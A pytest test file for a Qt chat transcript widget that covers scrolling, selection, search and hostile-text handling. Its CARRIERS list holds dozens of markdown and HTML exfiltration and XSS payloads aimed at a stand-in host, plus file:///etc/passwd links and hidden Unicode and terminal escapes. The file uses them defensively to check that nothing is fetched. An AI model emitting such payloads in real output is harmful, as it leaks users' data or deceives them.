"""The transcript: virtualisation, selection, finding, scrolling, and hostile text."""

from __future__ import annotations

import sys
from typing import Any

import pytest
from PySide6.QtCore import QPoint, Qt
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication
from pytestqt.qtbot import QtBot

from workbench.traces.events import (
    AnswerDelta,
    ApprovalAsked,
    ModelCallStarted,
    Record,
    RunFinished,
    RunStarted,
    ToolCallBroken,
    ToolCallFinished,
    ToolCallStarted,
    TraceEvent,
)
from workbench.traces.values import Turn
from workbench.ui.chat.flow import MOST_LAID_OUT
from workbench.ui.chat.inline import InlineParser, visible
from workbench.ui.chat.selection import text_of
from workbench.ui.chat.transcript import Transcript
from workbench.ui.chat.turns import TurnModel
from workbench.ui.theme.theme import Theme


def turn(number: int, user: str, answer: str) -> Turn:
    run, end = f"r{number}", RunFinished("answered", answer, duration_s=1.0)
    events: list[TraceEvent] = [
        RunStarted("c", "", "a", {}, "m", user),
        ModelCallStarted("s", "n", "m", "e"),
        AnswerDelta("s", answer, 10),
        end,
    ]
    records = tuple(Record(run, at, float(at), event) for at, event in enumerate(events))
    return Turn(run, "", user, records, 0, (run,), end)


@pytest.fixture
def view(qtbot: QtBot, theme: Theme) -> Transcript:
    made = Transcript(theme)
    qtbot.addWidget(made)
    made.resize(900, 700)
    made.show()
    return made


def whole_text(view: Transcript) -> str:
    flow = view.flow
    return "\n".join(
        text_of(flow, at, row)
        for at in range(len(flow.turns))
        for row in range(len(flow.rows(at).rows))
    )


def test_that_ten_thousand_messages_lay_out_only_a_screenful(
    view: Transcript, qapp: QApplication
) -> None:
    answer = "# Title\n\nSome *text* here.\n\n```py\nx = 1\n```\n\n- a\n- b\n" * 3
    view.set_turns([turn(number, f"question {number}", answer) for number in range(5000)])
    qapp.processEvents()
    assert view.flow.laid_out_rows < 120
    bar = view.verticalScrollBar()
    assert bar.maximum() > 1_000_000
    assert bar.value() == bar.maximum()
    for place in (0, bar.maximum() // 2, bar.maximum() // 3):
        bar.setValue(place)
        qapp.processEvents()
    assert view.flow.laid_out_rows <= MOST_LAID_OUT
    assert sum(item.rows is not None for item in view.flow.turns) <= 82


def test_that_scrolling_up_holds_what_is_read_in_place(
    view: Transcript, qapp: QApplication
) -> None:
    view.set_turns([turn(n, f"question {n}", "word " * (40 + 37 * n % 900)) for n in range(60)])
    qapp.processEvents()
    bar = view.verticalScrollBar()
    for _ in range(60):
        top = view.flow.find(view.place.y_px)
        before = view.place_rect(*top).y()
        value = bar.value()
        bar.setValue(value - 90)
        if bar.value() <= 0:
            break
        assert view.place_rect(*top).y() == pytest.approx(before + 90, abs=1.5)


def test_that_older_messages_come_above_without_a_jump(
    view: Transcript, qapp: QApplication
) -> None:
    view.set_turns([turn(n, f"new {n}", "answer " * 50) for n in range(20)])
    qapp.processEvents()
    view.verticalScrollBar().setValue(300)
    place = view.flow.find(view.place.y_px)
    before = view.place_rect(*place).y()
    view.prepend_turns([turn(100 + n, f"old {n}", "older " * 90) for n in range(30)])
    assert view.place_rect(place[0] + 30, place[1]).y() == pytest.approx(before, abs=1.5)


def test_that_finished_blocks_are_laid_out_once_while_text_streams(
    view: Transcript, qapp: QApplication
) -> None:
    model = TurnModel("r")
    model.take(Record("r", 0, 0.0, RunStarted("c", "", "a", {}, "m", "hi")))
    view.begin(model)
    text = "First paragraph is done.\n\nSecond"
    model.take(Record("r", 1, 0.0, AnswerDelta("s", text)))
    view.update_live()
    row = next(n for n, r in enumerate(view.flow.rows(0).rows) if r.kind == "block")
    first = view.flow.laid(0, row)
    for number in range(50):
        model.take(Record("r", 2 + number, 0.0, AnswerDelta("s", f" word{number}\n\nnext")))
        view.update_live()
        qapp.processEvents()
    assert view.flow.rows(0).rows[row].laid is first


def test_that_a_reader_who_scrolled_up_is_left_alone(
    view: Transcript, qapp: QApplication
) -> None:
    view.set_turns([turn(n, f"q {n}", "answer " * 80) for n in range(10)])
    model = TurnModel("live")
    model.take(Record("live", 0, 0.0, RunStarted("c", "", "a", {}, "m", "hi")))
    view.begin(model)
    view.verticalScrollBar().setValue(200)
    for number in range(40):
        model.take(Record("live", 1 + number, 0.0, AnswerDelta("s", "more text\n\n")))
        view.update_live()
        qapp.processEvents()
        assert view.verticalScrollBar().value() == 200
    view.scroll_to_end()
    assert view.at_end


def test_that_a_selection_over_blocks_copies_exact_text(
    view: Transcript, qapp: QApplication
) -> None:
    answer = (
        "One **bold** word.\n\n- first\n- second\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nEnd."
    )
    view.set_turns([turn(1, "Question", answer)])
    view.setFocus()
    QTest.keyClick(view, Qt.Key.Key_A, Qt.KeyboardModifier.ControlModifier)
    assert view.copy_selection() == (
        "Question\n\nOne bold word.\nfirst\nsecond\n\na\tb\n1\t2\n\nEnd."
    )
    assert qapp.clipboard().text().startswith("Question")


def test_that_dragging_selects_a_part(view: Transcript, qapp: QApplication) -> None:
    view.set_turns([turn(1, "Question", "alpha beta gamma")])
    qapp.processEvents()
    row = next(n for n, r in enumerate(view.flow.rows(0).rows) if r.kind == "block")
    rect = view.place_rect(0, row)
    y = int(rect.bottom() - 8)
    port = view.viewport()
    QTest.mousePress(port, Qt.MouseButton.LeftButton, pos=QPoint(int(rect.x()), y))
    QTest.mouseMove(port, QPoint(int(rect.right()), y))
    QTest.mouseRelease(port, Qt.MouseButton.LeftButton, pos=QPoint(int(rect.right()), y))
    assert view.copy_selection() == "alpha beta gamma"
    QTest.mouseDClick(port, Qt.MouseButton.LeftButton, pos=QPoint(int(rect.x()) + 4, y))
    assert view.copy_selection() == "alpha"


def test_that_finding_goes_round_and_back(view: Transcript) -> None:
    view.set_turns([turn(n, f"question {n}", "needle here" if n % 5 == 0 else "hay")
                    for n in range(20)])  # fmt: skip
    assert view.set_query("needle")
    seen = []
    for _ in range(4):
        assert view.selection is not None
        seen.append(view.selection.anchor[0])
        assert view.find_again()
    assert sorted(seen) == [0, 5, 10, 15]
    assert view.find_again(backwards=True)
    assert not view.set_query("absent")


def test_that_the_keyboard_goes_message_by_message(view: Transcript) -> None:
    view.set_turns([turn(1, "first question", "first answer"), turn(2, "second", "more")])
    view.setFocus()
    said = []
    for _ in range(5):
        QTest.keyClick(view, Qt.Key.Key_Up)
        said.append(view.accessibleDescription().split("\n")[0])
    assert said[0].startswith("Assistant: more")
    assert said[1] == "You: second"
    assert said[3] == "You: first question"
    menu = view.message_menu(0, 0)
    assert [a.text() for a in menu.actions() if a.text()] == ["Copy", "Edit", "Select all"]


CARRIERS = [
    "![a](http://evil.example/x.png)",
    "![a](https://evil.example/?q=secret)",
    "![a][r]\n\n[r]: http://evil.example/x",
    "![](//evil.example/x)",
    "![a](file:///etc/passwd)",
    "![a](\\\\evil\\share\\x.png)",
    "![a](qrc:/x.png)",
    "![a](data:image/png;base64,AAAA)",
    "![a](data:text/html,<script>1</script>)",
    "![a](javascript:alert(1))",
    "![a](ftp://evil.example/x)",
    "![a](smb://evil.example/x)",
    "![a](image://provider/x)",
    "[![a](http://evil.example/x)](http://evil.example/y)",
    '<img src="http://evil.example/x">',
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=http://evil.example/x>",
    '<img src="file:///etc/passwd">',
    '<img src="qrc:/x">',
    "<script>fetch('http://evil.example')</script>",
    '<iframe src="http://evil.example"></iframe>',
    '<link rel=stylesheet href="http://evil.example/x.css">',
    "<style>@import url(http://evil.example/x)</style>",
    '<div style="background:url(http://evil.example/x)">x</div>',
    '<object data="http://evil.example/x"></object>',
    '<embed src="http://evil.example/x">',
    '<video src="http://evil.example/x" autoplay></video>',
    '<audio src="http://evil.example/x" autoplay></audio>',
    '<svg><image href="http://evil.example/x"/></svg>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    '<base href="http://evil.example/">',
    '<form action="http://evil.example"><button>Allow once</button></form>',
    '<table background="http://evil.example/x"><tr><td>x</td></tr></table>',
    '<body background="http://evil.example/x">',
    "<!-- hidden -->",
    "<http://evil.example/auto>",
    "[click](http://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "[click](file:///etc/passwd)",
    "[http://good.example](http://evil.example)",
    "| ![a](http://evil.example/x) | <img src=x> |\n|---|---|\n| ![b](//evil) | 1 |",
    "- ![a](http://evil.example/x)\n  - <img src=http://evil.example/y>",
    "> ![a](http://evil.example/x)",
    "# ![a](http://evil.example/x)",
    "```html\n<img src=http://evil.example/x>\n```",
    "`<img src=http://evil.example/x>`",
    "a\u202etxt.exe\u202c b\u200bc \u2066d\u2069",
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "&#x3C;img src=http://evil.example&#x3E;",
    "\ufeffbom \u00ad soft",
]


@pytest.mark.parametrize("carrier", CARRIERS)
def test_that_hostile_text_fetches_and_opens_nothing(
    view: Transcript, qapp: QApplication, carrier: str
) -> None:
    seen: list[str] = []
    asked: list[tuple[str, str, Any]] = []
    view.asked.connect(lambda *what: asked.append(what))
    watching = True

    def watch(event: str, args: tuple[Any, ...]) -> None:
        if watching and event in ("socket.connect", "socket.getaddrinfo", "subprocess.Popen"):
            seen.append(event)
        if watching and event == "open" and any(w in str(args[0]) for w in ("passwd", "evil")):
            seen.append(str(args[0]))

    sys.addaudithook(watch)
    view.set_turns([turn(1, carrier, carrier)])
    qapp.processEvents()
    watching = False
    assert not seen
    assert not asked
    text = whole_text(view)
    assert not set(text) & set("\u202e\u200b\u2066\u2069\u202c\x1b\x07\ufeff\u00ad")
    if "<img" in carrier.lower() or "<script" in carrier or "<iframe" in carrier:
        assert "<" in text, "markup is shown as text"
    for row in range(len(view.flow.rows(0).rows)):
        for target in view.flow.laid(0, row).targets:
            if target.action == "link":
                assert str(target.value).startswith(("http://", "https://", "mailto:"))


def test_that_a_link_is_only_asked_about(view: Transcript, qapp: QApplication) -> None:
    asked: list[tuple[str, Any]] = []
    view.asked.connect(lambda action, _run, value: asked.append((action, value)))
    view.set_turns([turn(1, "q", "[safe words](http://evil.example/?q=1)")])
    qapp.processEvents()
    row = next(n for n, r in enumerate(view.flow.rows(0).rows) if r.kind == "block")
    target = view.flow.laid(0, row).targets[0]
    assert target.name == "http://evil.example/?q=1"
    point = (view.place_rect(0, row).topLeft() + target.rect.center()).toPoint()
    QTest.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=point)
    assert asked == [("link", "http://evil.example/?q=1")]


def test_that_joiners_of_emoji_and_scripts_stay_but_hidden_marks_show() -> None:
    assert visible("👩\u200d💻") == "👩\u200d💻"
    assert visible("a\u200db") == "a[U+200D]b"
    assert visible("x\U000e0041") == "x[U+E0041]"
    assert visible("plain") == "plain"


def test_that_inline_marks_become_spans() -> None:
    spans = InlineParser().spans("a **b** `c` ~~d~~ [e](http://x.example) *f*")
    marked = [
        (s.text, s.bold, s.code, s.strike, s.italic, s.href) for s in spans if s.text.strip()
    ]
    assert marked == [
        ("a ", False, False, False, False, ""),
        ("b", True, False, False, False, ""),
        ("c", False, True, False, False, ""),
        ("d", False, False, True, False, ""),
        ("e", False, False, False, False, "http://x.example"),
        ("f", False, False, False, True, ""),
    ]


def test_that_cards_show_hostile_names_and_results_as_text(view: Transcript) -> None:
    model = TurnModel("r")
    events: list[TraceEvent] = [
        RunStarted("c", "", "a", {}, "m", "hi"),
        ToolCallStarted("t", "s", "n", "c", "calc\u202eulator", '{"a": "<img src=x>"}'),
        ToolCallFinished("t", '[{"k": "![x](http://e)"}, {"k": "\u200b"}]'),
        ToolCallBroken("s", "<broken", "told\x1b[0m", "na\u200bme"),
    ]
    for number, event in enumerate(events):
        model.take(Record("r", number, 0.0, event))
    view.begin(model)
    for row, found in enumerate(view.flow.rows(0).rows):
        if found.kind in ("call", "broken"):
            view.perform("toggle", 0, row)
    text = whole_text(view)
    assert "calc[U+202E]ulator" in text
    assert "![x](http://e)" in text
    assert "<img src=x>" in text
    assert "\x1b" not in text


def test_that_what_a_tool_asked_writes_nothing_into_the_answer() -> None:
    model = TurnModel("r")
    events: list[TraceEvent] = [
        RunStarted("c", "", "a", {}, "m", "hi"),
        ModelCallStarted("model-1", "agent", "m", "e"),
        ToolCallStarted("tool-1", "model-1", "agent", "c", "ask", "{}"),
        ModelCallStarted("tool-1>model-1", "tool-1", "m", "e"),
        AnswerDelta("tool-1>model-1", "inside"),
        ToolCallStarted("tool-1>tool-1", "tool-1>model-1", "tool-1", "c", "save_note", "{}"),
        ApprovalAsked("r:tool-1>tool-1", "tool-1>tool-1", "save_note", "{}", "Your notes"),
    ]
    for number, event in enumerate(events):
        model.take(Record("r", number, 0.0, event))

    assert model.answer == ""
    assert list(model.calls) == ["tool-1", "tool-1>tool-1"]
    assert model.asking is model.calls["tool-1>tool-1"]
